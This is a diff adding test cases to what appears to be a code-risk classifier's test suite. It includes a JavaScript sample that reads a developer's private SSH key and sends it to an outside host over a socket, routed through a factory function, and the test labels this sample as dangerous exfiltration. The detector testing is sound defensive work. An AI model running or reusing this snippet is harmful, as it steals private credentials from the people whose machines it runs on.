@@ -8643,6 +8643,19 @@ fn javascript_values_through_less_common_shapes() {
             Suspicious,
             "network",
         ),
+        // a function a factory returns, called by the caller
+        (
+            Js,
+            "const net = require('net');\nconst fs = require('fs');\nfunction makeSender(host) {\n  return function send(line) {\n    const s = net.connect({ host, port: 6514 });\n    s.write(line);\n  };\n}\nconst send = makeSender('logs.example-collect.net');\nsend(fs.readFileSync('/home/dev/.ssh/id_ed25519', 'utf8'));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const net = require('net');\nfunction makeSender(host) {\n  return function send(line) {\n    const s = net.connect({ host, port: 6514 });\n    s.write(line);\n  };\n}\nconst send = makeSender('logs.example-collect.net');\nsend('build finished');\n",
+            Suspicious,
+            "network",
+        ),
         // a template of a value with alternatives
         (
             Ts,
